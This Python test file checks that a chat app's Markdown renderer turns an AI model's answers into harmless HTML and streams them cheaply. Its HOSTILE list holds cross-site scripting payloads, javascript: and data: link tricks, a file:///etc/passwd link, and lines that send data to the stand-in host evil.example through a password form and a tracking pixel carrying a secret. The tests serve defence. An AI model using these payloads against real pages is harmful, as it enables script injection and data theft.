"""The assistant's Markdown: readable, and harmless whatever it says (U-01, decision 16)."""

import re
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from taskchat.ui.chat.markdown import TAGS, Growing, blocks, sources

ASSETS = Path(__file__).parent.parent.parent / "assets"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<b onclick=alert(1)>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "![pixel][p]\n\n[p]: https://evil.example/p.png",
    '![x](x "onerror=alert(1)")',
    "[x](https://ok.example \"' onmouseover='alert(1)\")",
    '[x](https://ok.example/"onclick="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    '```" onload="alert(1)\n<img src=x onerror=alert(1)>\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "- <svg/onload=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "<div style='position:fixed;inset:0'>covered</div>",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


class Read(HTMLParser):
    """What a browser would make of it: elements, and the addresses they name."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def harmless(html: str) -> None:
    read = Read(html)
    assert read.tags <= TAGS
    for tag, name, value in read.attributes:
        assert (tag, name) in {
            *(("a", each) for each in ("href", "title", "target", "rel")),
            ("span", "class"), ("div", "class"), ("div", "tabindex"), ("ol", "start"), ("li", "class"),
            ("div", "data-language"), ("pre", "tabindex"),
            ("button", "type"), ("button", "class"), ("button", "aria-label"),
        }  # fmt: skip
        assert name != "href" or re.match(r"(https?|mailto):", value)
        assert tag != "button" or value in {"button", "code-copy", "Copy code"}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_an_answer_says_becomes_a_program(text: str) -> None:
    harmless("".join(blocks(text)))


def test_no_picture_is_ever_fetched() -> None:
    assert "".join(blocks("![pixel](https://evil.example/p.png?q=secret)")) == "<p><em>[pixel]</em></p>"


@given(st.text(alphabet="<>&\"'`*_[]()!#|:-\n /=abcdehijlnoprstuv0", max_size=120))
def test_no_string_of_signs_becomes_a_program(text: str) -> None:
    harmless("".join(blocks(text)))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain", "<p>plain</p>"),
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("# Big", "<h3>Big</h3>"),
        ("###### Small", "<h6>Small</h6>"),
        ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>"),
        ("`x < y`", "<p><code>x &lt; y</code></p>"),
        ("3. third", '<ol start="3">\n<li>third</li>\n</ol>'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        (
            "- [ ] milk\n- [x] *bread*",
            '<ul>\n<li class="box">☐ milk</li>\n<li class="box">☑ <em>bread</em></li>\n</ul>',
        ),
        ("- [ ]", "<ul>\n<li>[ ]</li>\n</ul>"),
        ("[ ] no list", "<p>[ ] no list</p>"),
        (
            "| a |\n|---|\n| 1 |",
            '<div class="scroll" tabindex="0"><table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n'
            "<tbody>\n<tr>\n<td>1</td>\n</tr>\n</tbody>\n</table></div>",
        ),
        ("![the plan](https://x.example/p.png)", "<p><em>[the plan]</em></p>"),
        (
            "[x](https://ok.example)",
            '<p><a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
        ),
        ("```python\nif x: pass\n```", None),
        ("", None),
    ],
)
def test_markdown_reads_as_prose(text: str, html: str | None) -> None:
    made = "".join(blocks(text))

    if html is not None:
        assert made == html
    elif text:
        assert '<span class="k">if</span>' in made
    else:
        assert made == ""


@pytest.mark.parametrize(
    ("fence", "label"),
    [
        ("python", "Python"),
        ("js", "JavaScript"),
        ("klingon", "klingon"),
        ("", ""),
        ("x" * 99, "x" * 24),
        ('"onload="x', "&quot;onload=&quot;x"),
    ],
)
def test_code_says_its_language_and_can_be_copied(fence: str, label: str) -> None:
    (html,) = blocks(f"```{fence}\nx = 1\n```")

    assert html.startswith(f'<div class="code" data-language="{label}"><button type="button" class="code-copy"')
    assert re.sub(r"<[^>]*>", "", html).strip() == "x = 1"


def test_the_colours_of_code_are_in_the_sheet_that_code_loads() -> None:
    """What is drawn by a class must not lie in the sheet that every page loads."""
    always, code = ((ASSETS / name).read_text() for name in ("chat.css", "code.css"))

    assert ".code .k" in code
    assert not re.search(r"\.(k|s1|mi|nb)\b", always)


DOCUMENTS = [
    "One paragraph.\n\nAnother, with **bold** words.\n\nAnd a third.",
    "Here is a list:\n\n- one\n- two\n\n  still two\n- three\n\nDone.",
    "1. first\n2. second\n\n```python\ndef f():\n\n    return 1\n```\n\nafter",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n# Title\n\ntext\r\nwith\rodd ends\n\nend",
    "\n\n  leading blank lines\n\n> quote\n> goes on\n\n---\n\nlast",
    "- [ ] milk\n- [x] bread\n\n| a |\n|---|\n| - [ ] |\n\nend",
    "no end of a fence\n\n```\nopen",
]


@pytest.mark.parametrize("text", DOCUMENTS)
def test_cut_at_its_blocks_a_text_says_the_same(text: str) -> None:
    assert "".join(sources(text)) == text


@pytest.mark.parametrize("text", DOCUMENTS)
def test_an_answer_that_grows_ends_as_if_it_had_come_at_once(text: str) -> None:
    growing = Growing()

    for end in range(1, len(text) + 1):
        tail = growing.read(text[:end])
        harmless(growing.lead + tail)

    assert [*growing.blocks, growing.lead + tail] == blocks(text)


def test_settled_blocks_are_never_read_again() -> None:
    growing = Growing()
    growing.read("One.\n\nTwo.\n\nThr")
    settled = growing.blocks

    growing.read("One.\n\nTwo.\n\nThree, which grows")

    assert growing.blocks is settled


def test_an_answer_that_is_replaced_starts_over() -> None:
    growing = Growing()
    growing.read("One.\n\nTwo")

    assert growing.read("Other") == "<p>Other</p>"
    assert growing.blocks == []


VOWELS = "aeiou"


def prose(words: int) -> str:
    """Words that do not repeat themselves, in paragraphs of 60."""
    made = [f"{chr(97 + n % 23)}{VOWELS[n % 5]}{n * 7919 % 9973}" for n in range(words)]
    return "\n\n".join(" ".join(made[start : start + 60]) for start in range(0, words, 60))


@pytest.mark.parametrize("text", [prose(1_000), prose(1_000).replace("\n\n", " ")])
def test_a_thousand_words_cost_less_than_60_kb_on_the_wire(text: str) -> None:
    """Frames as they are sent, three words each, compressed as the socket does it (a window of 4 kB that goes on)."""
    growing, squeeze = Growing(), zlib.compressobj(wbits=-12)
    sent, seen = 0, ([""], "", "")
    places = [m.end() for m in re.finditer(r"\S+\s*", text)][2::3]

    for place in [*places, len(text)]:
        tail = growing.read(text[:place])
        now = (growing.blocks, growing.lead, tail)
        news = {
            name: value for name, value, old in zip(("blocks", "lead", "tail"), now, seen, strict=True) if value != old
        }
        frame = f'42/_event,["event",{{"delta":{{"reflex___state____state.taskchat___stream_state":{news}}}}}]'
        sent += len(squeeze.compress(frame.encode()) + squeeze.flush(zlib.Z_SYNC_FLUSH))
        seen = now

    assert sent < 60_000
